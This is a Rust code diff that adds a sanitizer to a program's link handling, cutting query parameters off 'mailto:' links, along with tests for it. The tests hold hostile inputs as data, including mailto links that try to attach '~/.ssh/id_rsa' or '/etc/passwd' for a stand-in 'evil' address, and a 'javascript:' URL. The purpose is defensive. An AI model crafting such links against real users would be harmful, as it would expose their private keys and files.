@@ -70,8 +70,17 @@ pub(super) fn at(runs: &[Run], x: u16) -> Option<&Arc<str>> {
     runs.iter().find(|run| run.columns.contains(&x)).map(|run| &run.url)
 }
 
+/// What of a link is given to whoever opens it, a browser or a terminal. A letter that an article has
+/// begun would have what it likes in it, files of the reader's included: of an address for letters only
+/// who gets them is taken.
+pub fn safe(url: &str) -> &str {
+    let is_letter = url.get(..7).is_some_and(|start| start.eq_ignore_ascii_case("mailto:"));
+    url.split('?').next().filter(|_| is_letter).unwrap_or(url)
+}
+
 /// An address that may be sent.
 fn clean(url: &str) -> Option<Arc<str>> {
+    let url = safe(url);
     let scheme =
         SCHEMES.iter().find(|scheme| url.get(..scheme.len()).is_some_and(|s| s.eq_ignore_ascii_case(scheme)))?;
     if url.len() == scheme.len() || url.len() > LONGEST {
@@ -117,6 +126,9 @@ mod tests {
             ("https://a.example/b?c#d", Some("https://a.example/b?c#d")),
             ("HTTP://a", Some("HTTP://a")),
             ("mailto:a@b", Some("mailto:a@b")),
+            ("mailto:x@evil?attach=/home/me/.ssh/id_rsa", Some("mailto:x@evil")),
+            ("MailTo:x@evil?body=x?y", Some("MailTo:x@evil")),
+            ("mailto:?attach=/etc/passwd", None),
             ("https://é.example/a b", Some("https://%C3%A9.example/a%20b")),
             ("https://", None),
             ("javascript:alert(1)", None),
